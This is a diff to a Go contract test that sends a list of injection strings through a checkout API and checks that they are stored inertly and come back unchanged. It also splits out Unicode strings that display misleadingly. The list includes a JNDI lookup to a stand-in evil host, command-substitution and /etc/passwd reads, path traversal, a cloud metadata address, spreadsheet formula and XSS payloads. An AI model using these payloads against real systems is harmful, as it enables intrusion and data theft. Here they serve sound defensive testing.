@@ -213,17 +213,26 @@ func injections() []string {
 		`{{.Token}}`, `${jndi:ldap://evil.example/a}`, `#{7*7}`, `<%= 7*7 %>`, `$(reboot)`, "`id`", `| cat /etc/passwd`, `; ls &`,
 		`../../../../etc/passwd`, `..\..\windows`, `file:///etc/passwd`, `http://169.254.169.254/`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`,
 		`@SUM(1)`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=x>`, `javascript:alert(1)`, `&lt;b&gt;`,
-		`<!--`, `]]>`, `\u0041\n`, `%0d%0aX-Admin: 1`, `null`, `undefined`, `true`, `NaN`, `0x1F`, `__proto__`, `Ṫ̈ḧ̈ë`, "a\u202eb\u2066c",
-		"\U0001F469\u200d\U0001F4BB", "line\u2028line", "\ufffe\U0010ffff", `ʻŌtautahi — “Ngāi Tahu”`}
+		`<!--`, `]]>`, `\u0041\n`, `%0d%0aX-Admin: 1`, `null`, `undefined`, `true`, `NaN`, `0x1F`, `__proto__`, `Ṫ̈ḧ̈ë`,
+		"\U0001F469\u200d\U0001F4BB", `ʻŌtautahi — “Ngāi Tahu”`}
 }
+
+// unreadable are texts that read otherwise than they are spelled, which an identifier may be and a name may not.
+var unreadable = []string{"a\u202eb\u2066c", "line\u2028line", "\ufffe\U0010ffff"}
 
 func TestContract2AnInjectionIsStoredInertlyAndComesBackUnchanged(t *testing.T) {
 	contract(t, func(t *testing.T, s *suite) {
-		all := injections()
+		all := append(injections(), unreadable...)
+		nameOf := func(text string) string {
+			if slices.Contains(unreadable, text) {
+				return "Wiremu"
+			}
+			return text
+		}
 		for _, text := range all {
-			body := order(legacyCreate, "ORDER")
-			for _, field := range []string{"provider.provider_order_id", "student.first_name", "student.last_name", "course.course_name"} {
-				body = set(t, body, field, quoted(text))
+			body := set(t, order(legacyCreate, "ORDER"), "provider.provider_order_id", quoted(text))
+			for _, field := range []string{"student.first_name", "student.last_name", "course.course_name"} {
+				body = set(t, body, field, quoted(nameOf(text)))
 			}
 			r := s.Post(t, "TUI", "/v1/provider-checkouts", body)
 			if r.Status != http.StatusCreated || r.At("provider.provider_order_id") != text {
@@ -241,7 +250,8 @@ func TestContract2AnInjectionIsStoredInertlyAndComesBackUnchanged(t *testing.T) 
 		}
 		for i, text := range all {
 			c := stored[i].Checkout
-			if c.OrderID != text || c.Student.FirstName != text || c.Student.LastName != text || c.Intent.CourseName != text {
+			name := nameOf(text)
+			if c.OrderID != text || c.Student.FirstName != name || c.Student.LastName != name || c.Intent.CourseName != name {
 				t.Errorf("%q is on record as %+v", text, c)
 			}
 			if sent[i].JSON.At("data.provider_order_id") != text {
